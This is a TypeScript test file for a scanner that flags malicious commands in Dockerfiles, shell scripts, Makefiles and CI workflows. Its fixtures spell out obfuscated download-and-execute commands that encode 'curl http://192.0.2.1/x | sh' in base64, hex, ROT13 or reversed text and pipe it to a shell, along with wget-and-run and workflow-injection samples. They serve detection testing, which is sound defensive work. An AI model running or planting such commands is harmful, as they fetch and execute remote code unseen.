import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandFacts } from '../../../src/scan/text/commands.ts';
import { plainTextScanner } from '../../../src/scan/text/plain-text.ts';
import { scanBytes } from '../../support/scan-bytes.ts';

const SCRIPT = Buffer.from('curl http://192.0.2.1/x | sh').toString('base64');
const HEX = Buffer.from('curl http://192.0.2.1/x | sh').toString('hex');
const scan = async (file: string, text: string) => {
  const { verdict, context } = await scanBytes(Buffer.from(text), file, [plainTextScanner], true);
  return { verdict, said: context.checks.map(({ detail }) => detail).join() };
};

describe('commands that decode a text of the file and run it', () => {
  it.each([
    ['Dockerfile', `FROM x\nRUN echo ${SCRIPT} | base64 -d | sh\n`],
    ['Dockerfile', `FROM x\nRUN echo "${SCRIPT}" | \\\n  base64 --decode | \\\n  sudo bash\n`],
    ['Dockerfile', `FROM x\nRUN ["sh", "-c", "echo ${SCRIPT} | base64 -d | sh"]\n`],
    ['Dockerfile', `FROM x\nENV A=${SCRIPT}\nRUN echo $A | base64 -d | /bin/sh\n`],
    ['Dockerfile', `# escape=\`\nFROM x\nRUN echo ${SCRIPT} \`\n | base64 -d | sh\n`],
    ['docker/Dockerfile.gpu', `FROM x\nRUN eval "$(echo ${SCRIPT} | base64 -d)"\n`],
    ['run.sh', `#!/bin/sh\nX=${SCRIPT}\nbash -c "$(echo "\${X}" | base64 -d)"\n`],
    ['run.sh', `#!/bin/sh\nbash <(base64 -d <<< ${SCRIPT})\n`],
    ['run.sh', `#!/bin/sh\n. <(echo ${SCRIPT} | openssl base64 -d)\n`],
    ['run.sh', `#!/bin/sh\necho ${HEX} | xxd -r -p | bash\n`],
    ['run.sh', `#!/bin/sh\nprintf '\\x63\\x75\\x72\\x6c\\x20' | sh\n`],
    ['run.sh', `#!/bin/sh\necho 'hs | x/1.2.0.291//:ptth lruc' | rev | sh\n`],
    ['run.sh', `#!/bin/sh\necho 'phey uggc://k | fu' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh\n`],
    ['run.sh', `#!/bin/sh\npython3 -c "import base64; exec(base64.b64decode('${SCRIPT}'))"\n`],
    ['Makefile', `all:\n\techo ${SCRIPT} | base64 -d | python3\n`],
    ['.github/workflows/ci.yml', `on: push\njobs: {a: {steps: [{run: "echo ${SCRIPT} | base64 -d | sh"}]}}\n`],
    ['.github/workflows/ci.yml', `on: push\njobs: {a: {steps: [{run: "echo ${SCRIPT} \\x7c base64 -d \\x7c sh"}]}}\n`],
    ['.gitlab-ci.yml', `a:\n  script:\n    - |\n      echo ${SCRIPT} |\n        base64 -d |\n        sh\n`],
  ])('in %s are malicious: %j', async (file, text) => {
    expect((await scan(file, text)).verdict).toBe('malicious');
  });

  it.each([
    [
      'Dockerfile',
      'FROM x\nRUN curl https://sh.rustup.rs -sSf | sh -s -- -y\n',
      'line 2 downloads a script and runs it',
    ],
    ['Dockerfile', 'FROM python:3.11\nRUN true\n', 'line 1 builds on an image that is not pinned to a digest'],
    ['Dockerfile', 'FROM x@sha256:0\nADD https://e.example/x.tar /x\n', 'line 2 adds a file of the web'],
    ['Dockerfile', 'FROM x@sha256:0\nRUN pip install --extra-index-url http://e.example y\n', 'installs a package'],
    ['run.sh', '#!/bin/sh\neval "$(curl http://e.example/x)"\n', 'downloads a script and runs it'],
    ['run.sh', '#!/bin/sh\nwget http://e.example/x && chmod +x x && ./x\n', 'downloads a file and runs it'],
    ['.github/workflows/ci.yml', 'on:\n  pull_request_target:\njobs: {}\n', 'with the rights of the repository'],
    [
      '.github/workflows/ci.yml',
      'jobs:\n  a:\n    steps:\n    - uses: actions/checkout@v4\n',
      'not pinned to a commit',
    ],
    ['.github/workflows/ci.yml', 'a: 1\nb:\n  run: echo ${{ github.event.issue.title }}\n', 'puts text of anybody'],
    ['run.sh', '#!/bin/sh\necho "$KEY" | base64 -d > key.json\n', 'source code'],
    ['run.sh', '#!/bin/sh\necho "$SCRIPT" | base64 -d | sh\n', 'source code'],
    ['run.sh', `#!/bin/sh\necho ${SCRIPT} | base64 -d > file\n`, 'source code'],
    ['run.sh', `#!/bin/sh\n# echo ${SCRIPT} | base64 -d | sh\ntrue\n`, 'source code'],
    ['run.sh', '#!/bin/sh\ncat a.txt | tr A-Z a-z | sort | python count.py\n', 'source code'],
  ])('in %s are not assessed, with what they do, for %j', async (file, text, fact) => {
    const { verdict, said } = await scan(file, text);
    expect(verdict).toBe('not-assessed');
    expect(said).toContain(fact);
  });

  it('are not looked for in prose', async () => {
    const { verdict } = await scan('README.md', `# A\n\n    echo ${SCRIPT} | base64 -d | sh\n`);
    expect(verdict).toBe('clean');
  });

  it('are read in bounded work, whatever the text', () => {
    const part = fc.constantFrom(
      'echo ',
      SCRIPT,
      ' | ',
      'base64 -d',
      ' sh',
      '\\\n',
      '"',
      "'",
      '$A',
      'A=',
      'curl ',
      '`',
      '\\x63',
    );
    fc.assert(
      fc.property(fc.array(fc.oneof(part, fc.string())), fc.constantFrom('yaml', 'shell'), (parts, kind) => {
        expect(commandFacts(parts.join(''), kind).facts.length).toBeLessThanOrEqual(10);
      }),
    );
  });
});
